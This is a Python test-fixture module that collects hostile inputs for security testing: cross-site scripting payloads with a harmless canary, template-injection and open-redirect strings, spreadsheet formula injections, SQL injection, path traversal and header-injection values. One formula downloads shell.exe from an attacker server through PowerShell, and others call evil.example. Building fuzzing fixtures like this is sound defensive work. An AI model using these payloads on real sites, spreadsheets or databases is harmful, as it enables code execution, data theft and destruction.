"""The words of an attacker: payloads that would run, strings that break databases and printers, cells that compute."""

from __future__ import annotations

import gzip
import json
import os
import random
from pathlib import Path
from typing import Final

_FOLDER = Path(os.environ.get("CODESIGN_DATA", Path(__file__).parents[3] / "shared" / "data")) / "hostile-input"

CANARY: Final = "window.__canary=1"
"""What every payload would do, were it ever to run."""

_CORE = (
    f"<script>{CANARY}</script>", f"</title><script>{CANARY}</script>", f"</textarea><script>{CANARY}</script>",
    f"<ScRiPt>{CANARY}</sCrIpT>", f"<script>{CANARY}//", f"<script/x>{CANARY}</script>", f"--><script>{CANARY}</script>",
    f"]]><script>{CANARY}</script>", f"'><script>{CANARY}</script>", f"\"><script>{CANARY}</script>",
    f"<script src=data:text/javascript,{CANARY}></script>", f"<script type=module>{CANARY}</script>",
    f"<script src='/p/x'></script>{CANARY}", f"</script><script>{CANARY}</script>", f"<noscript><p title='</noscript>"
    f"<img src=x onerror={CANARY}>'>", f"<svg onload={CANARY}>", f"<svg><script>{CANARY}</script></svg>",
    f"<svg><animate onbegin={CANARY} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{CANARY}><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={CANARY}/>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{CANARY}</script>'></iframe></foreignObject></svg>",
    f"<svg><style><img src=x onerror={CANARY}></style></svg>", f"<svg></p><style><a id='</style><img src=1 onerror={CANARY}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CANARY}&gt;'>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CANARY}>x</maction></math>",
    f"<math href=javascript:{CANARY}>x</math>", f"<img src=x onerror={CANARY}>", f"<img src=x onerror='{CANARY}'//",
    f"\"><img src=x onerror={CANARY}>", f"'><img src=x onerror={CANARY}>", f"<img/src=x/onerror={CANARY}>",
    f"<img src='x' onerror=\n{CANARY}>", f"<img srcset='x' onerror={CANARY}>", f"<image src=x onerror={CANARY}>",
    f"<video><source onerror={CANARY}></video>", f"<audio src=x onerror={CANARY}>", f"<body onload={CANARY}>",
    f"<input autofocus onfocus={CANARY}>", f"<select autofocus onfocus={CANARY}>", f"<textarea autofocus onfocus={CANARY}>",
    f"<details open ontoggle={CANARY}>", f"<marquee onstart={CANARY}>", f"<div onpointerover={CANARY}>over</div>",
    f"<a href=# onclick={CANARY}>x</a>", f"<button formaction=javascript:{CANARY}>x</button>",
    f"<form action=javascript:{CANARY}><button>x</button></form>", f"<isindex type=image src=x onerror={CANARY}>",
    f"<keygen autofocus onfocus={CANARY}>", f"<iframe src=javascript:{CANARY}></iframe>",
    f"<iframe srcdoc='<script>parent.{CANARY}</script>'></iframe>", f"<object data=javascript:{CANARY}></object>",
    f"<embed src=javascript:{CANARY}>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<meta http-equiv=refresh content='0;javascript:{CANARY}'>", "<link rel=stylesheet href=//evil.example/x.css>",
    f"<link rel=import href=data:text/html,<script>{CANARY}</script>>", f"<template><script>{CANARY}</script></template>",
    f"<dialog open onclose={CANARY}>", f"<style>@import 'javascript:{CANARY}';</style>", "<style>*{display:none}</style>",
    "<p style=position:fixed;inset:0;background:red>covered</p>", "\" style=\"position:fixed;inset:0\" x=\"",
    "' style='position:fixed;inset:0' x='", "<div style=\"background:url(javascript:window.__canary=1)\">", "expression(alert(1))",
    f"\" onmouseover=\"{CANARY}", f"' onmouseover='{CANARY}", f"` onmouseover=`{CANARY}", f"x onfocus={CANARY} autofocus",
    f"\" autofocus onfocus=\"{CANARY}", f"' autofocus onfocus='{CANARY}", f"\" onfocus={CANARY} tabindex=0 x=\"",
    f"javascript:{CANARY}", f"JaVaScRiPt:{CANARY}", f" javascript:{CANARY}", f"java\tscript:{CANARY}", f"java\nscript:{CANARY}",
    f"javascript&colon;{CANARY}", f"&#106;avascript:{CANARY}", f"\x01javascript:{CANARY}", f"javascript://%0a{CANARY}",
    f"data:text/html,<script>{CANARY}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19jYW5hcnk9MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", f"view-source:javascript:{CANARY}", f"blob:{CANARY}", "//evil.example/%2f..", "https://evil.example",
    "/\\evil.example", "{{7*191919}}", "{{ config }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*191919}", "#{7*191919}", "<%= 7*191919 %>", "{{constructor.constructor('window.__canary=1')()}}", "{{''.__class__.__mro__}}", "[[7*191919]]",
    "%(num)s %s %d %n", "{0} {name} {}", "$(window.__canary=1)", "`window.__canary=1`", f"';{CANARY};//", f"\\';{CANARY};//",
    f"\\u003cscript\\u003e{CANARY}\\u003c/script\\u003e", f"\\x3cscript\\x3e{CANARY}", f"%3Cscript%3E{CANARY}%3C/script%3E",
    f"&lt;script&gt;{CANARY}&lt;/script&gt;", f"&#60;script&#62;{CANARY}&#60;/script&#62;", f"＜script＞{CANARY}＜/script＞",
    "<div hx-get=/static/x hx-trigger=load>x</div>", f"<div hx-on:click={CANARY}>x</div>", f"<div hx-on::load='{CANARY}'>x</div>",
    f"<div data-hx-get=/ hx-trigger='load' hx-vals='js:{{a:{CANARY}}}'>x</div>", "\" hx-get=\"/sign-in\" hx-trigger=\"load\" x=\"",
    "' hx-post='/sign-out' hx-trigger='load' x='", "<a data-confirm=x data-src=//evil.example>x</a>",
    f"<x onclick={CANARY}>click</x>", f"<xss contenteditable onbeforeinput={CANARY}>", f"<slot onslotchange={CANARY}>",
    f"<a><b><noscript><a alt='</noscript><img src=x onerror={CANARY}>'>", f"<table><td background=javascript:{CANARY}>",
    f"<select><template shadowrootmode=open><img src=x onerror={CANARY}></template></select>",
    f"<plaintext onmouseover={CANARY}>", "<plaintext>", "<!--", "-->", "<![CDATA[", "</html>", "</body></html>", "<", "<a", "</",
    f"\u202e<script>{CANARY}</script>\u202c", "\u2066admin\u2069 \u202egnp.exe", "‮txt.nigulp‭", f"\u200b<img src=x onerror={CANARY}>",
    f"<img\u00a0src=x onerror={CANARY}>", f"<img\u3000src=x\u2028onerror={CANARY}>", f"\ufeff<script>{CANARY}</script>",
    f"İ<script>{CANARY}</script>", "ﷺ" * 20, "Z̸̡a̷l̵g̶o̸" * 8,
    f"[x](javascript:{CANARY})", f"![x](x\" onerror=\"{CANARY})", f"<http://x\"onclick=\"{CANARY}>", "<a href='tel:1'>x</a>",
)  # fmt: skip

FORMULAS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "＝1+1", "＋1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1\",=1+1", "\"=1+1\"", "';=1+1", "|calc", "%0A=1+1", "=A1", "{=1+1}", "+447911123456", "-5",
    "=2+5+cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0", "\u200b=1+1", "\u00a0=1+1", "\ufeff=1+1",
)  # fmt: skip

AWKWARD: Final = (
    "", " ", "\u00a0", "\u200b", "0", "-1", "00", "1e9", "1e999", "NaN", "inf", "-inf", "0x10", "١٢٣", "½", "²", "1.5", "1,5", "1_000", "２０２６",
    str(2**31), str(2**31 - 1), str(2**32), str(2**63), str(2**63 - 1), str(-(2**63) - 1), str(2**64), "9" * 400, "0." + "1" * 400, "-0.0", "1e-400",
    "2026-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "2026-11-22", "31/12/9999", "29/2/2027", "30 Feb 2026", "24:00", "25:61", "1:30am", "00:00",
    "2026-03-29", "01:30", "1970-01-01", "-0001-01-01", "１２/１２/２０２６",
    "\x00", "a\x00b", "\x00" * 50, "\x0b", "\x1b[31m", "\x7f", "\x85", "\ud800", "a\udfffb", "\ud83d", "\udcff", "\ufffe", "\uffff", "\U0010ffff",
    "\u202eright\u202c", "\u2066left\u2069", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁷󠁬󠁳󠁿", "é" * 200, "e\u0301" * 200, "ﬀ", "ß" * 160, "İ" * 160, "ﷺ" * 200, "\u0e33" * 200,
    "null", "None", "undefined", "true", "[]", "{}", "[object Object]", "NULL", "' OR 1=1 --", "'; DROP TABLE idea; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)",
    "%", "%%", "%s%s%s%n", "%(x)s", "{x}", "\\", "\\x", "\\0", "_", "*", "\"", "''", "\"\"", "'", "`", "(", ")))", "NEAR(a b)", "a AND", "* OR *", "text:x", "^a", "a -b",
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "file:///etc/passwd", "http://127.0.0.1:9", "CON", "nul", ".", "..", "~", "a/b", "a;b", "a&b=c", "a=b", "#x", "?x",
    "x@x", "x@@x.example", "\"a b\"@x.example", "x@x.example\r\nBcc: y@y.example", "x" * 300 + "@x.example", "sam@council.example", "SAM@COUNCIL.EXAMPLE\u0000",
    "00000000-0000-0000-0000-000000000000", "01970000-0000-7000-8000-000000000000", "x" * 161, "x" * 5_001, "x " * 6_000, "\n" * 3_000, "a\r\nb\rc\n", "x" * 100_000, "字" * 34_000,
)  # fmt: skip


def payloads(*, most: int = 400) -> list[str]:
    """Ours, and a sample of the published corpus where it is at hand; each once."""
    found, corpus = list(_CORE), _FOLDER / "xss-payloads.txt.gz"
    if corpus.is_file():
        lines = gzip.decompress(corpus.read_bytes()).decode("utf-8", "replace").splitlines()
        found += random.Random(7).sample(sorted({line for line in lines if line.strip()}), max(0, most - len(found)))
    return list(dict.fromkeys(found))


def naughty() -> list[str]:
    """Everything that may break a form, a database or a printer: ours and the Big List where it is at hand."""
    found, big = [*AWKWARD, *FORMULAS, *_CORE], _FOLDER / "blns.json"
    if big.is_file():
        found += json.loads(big.read_text("utf-8"))
    return list(dict.fromkeys(found))
